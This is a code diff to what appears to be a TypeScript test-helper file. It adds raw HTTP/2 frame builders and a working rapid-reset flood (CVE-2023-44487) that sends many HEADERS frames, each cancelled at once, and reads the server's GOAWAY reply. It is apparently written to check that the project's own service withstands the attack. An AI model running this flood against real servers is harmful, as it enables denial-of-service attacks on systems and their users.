@@ -119,3 +119,53 @@ export async function residentBytes(pid: number): Promise<number> {
   if (!kb) throw new Error(`no VmRSS in /proc/${pid}/status`);
   return Number(kb) * 1024;
 }
+
+/** An HTTP/2 frame: 9-byte header and payload. */
+function h2Frame(type: number, flags: number, streamId: number, payload: Uint8Array): Buffer {
+  const frame = Buffer.alloc(9 + payload.length);
+  frame.writeUIntBE(payload.length, 0, 3);
+  frame[3] = type;
+  frame[4] = flags;
+  frame.writeUInt32BE(streamId, 5);
+  frame.set(payload, 9);
+  return frame;
+}
+
+/** An HPACK literal header field without indexing, its name from the static table. */
+function hpackLiteral(index: number, value: string): Buffer {
+  const name = index < 15 ? [index] : [0x0f, index - 15];
+  return Buffer.concat([Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
+}
+
+/** How a rapid-reset flood ended: the server's GOAWAY, if one arrived, and the close. */
+export interface ResetFloodOutcome {
+  readonly goaway: { readonly code: number; readonly lastStreamId: number } | undefined;
+}
+
+/**
+ * A rapid-reset flood (CVE-2023-44487) on one raw HTTP/2 connection: `streams` request
+ * HEADERS for `path` (no body yet), each followed at once by RST_STREAM (CANCEL), all written
+ * at once. Raw frames, not `node:http2`'s client: that one drops a request's HEADERS still
+ * queued when it is reset, so little of its flood would reach the server. Resolves once the
+ * connection has closed.
+ */
+export async function resetFlood(address: string, streams: number, path = "/portcullis.v1.GovernanceService/Ping"): Promise<ResetFloodOutcome> {
+  const raw = await openSocket(address);
+  // :method POST, :scheme http (static table), :path, :authority, content-type.
+  const block = Buffer.concat([Buffer.from([0x83, 0x86]), hpackLiteral(4, path), hpackLiteral(1, "sidecar"), hpackLiteral(31, "application/json")]);
+  const cancel = Buffer.from([0, 0, 0, 8]);
+  const frames: Buffer[] = [Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), h2Frame(4, 0, 0, Buffer.alloc(0))];
+  for (let i = 0, id = 1; i < streams; i++, id += 2) frames.push(h2Frame(1, 0x4, id, block), h2Frame(3, 0, id, cancel));
+  raw.socket.write(Buffer.concat(frames));
+  await raw.closed;
+  // The server's frames: the first GOAWAY (type 7) among them.
+  const bytes = Buffer.from(raw.received(), "latin1");
+  for (let at = 0; at + 9 <= bytes.length; ) {
+    const length = bytes.readUIntBE(at, 3);
+    if (bytes[at + 3] === 7 && at + 9 + 8 <= bytes.length) {
+      return { goaway: { lastStreamId: bytes.readUInt32BE(at + 9) & 0x7fffffff, code: bytes.readUInt32BE(at + 13) } };
+    }
+    at += 9 + length;
+  }
+  return { goaway: undefined };
+}
